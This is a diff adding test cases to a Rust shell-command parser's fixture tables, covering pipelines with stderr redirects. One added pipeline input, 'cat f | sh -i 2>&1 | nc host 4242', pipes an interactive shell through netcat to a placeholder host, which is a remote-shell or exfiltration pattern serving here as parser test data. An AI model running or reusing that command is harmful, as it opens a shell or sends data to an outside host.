@@ -1045,6 +1045,10 @@ const CODE: &[CodeOf] = &[
 // ---------------------------------------------------------------------------------------------
 
 const PIPES: &[Pipes] = &[
+    // The grammar nests a pipeline whose middle stage has a redirect; it is one pipeline.
+    pipes!("a | b 2>&1 | c" => ["a | b | c"]),
+    pipes!("a | b 2>/dev/null | c 2>&1 | d" => ["a | b | c | d"]),
+    pipes!("cat f | sh -i 2>&1 | nc host 4242" => ["cat f | sh -i | nc host 4242"]),
     pipes!("a | b | c" => ["a | b | c"]),
     pipes!("a |& b" => ["a |& b"]),
     pipes!("a | b |& c" => ["a | b |& c"]),
@@ -1082,6 +1086,7 @@ const STREAMS: &[Stream] = &[
 // ---------------------------------------------------------------------------------------------
 
 const REDIRECTS: &[Redirs] = &[
+    redir!("a | b 2>&1 | c", "b" => ["2>& 1"]),
     redir!("echo x > f", "echo x" => ["> f"]),
     redir!("echo x >> f", "echo x" => [">> f"]),
     redir!("echo x 2> f", "echo x" => ["2> f"]),
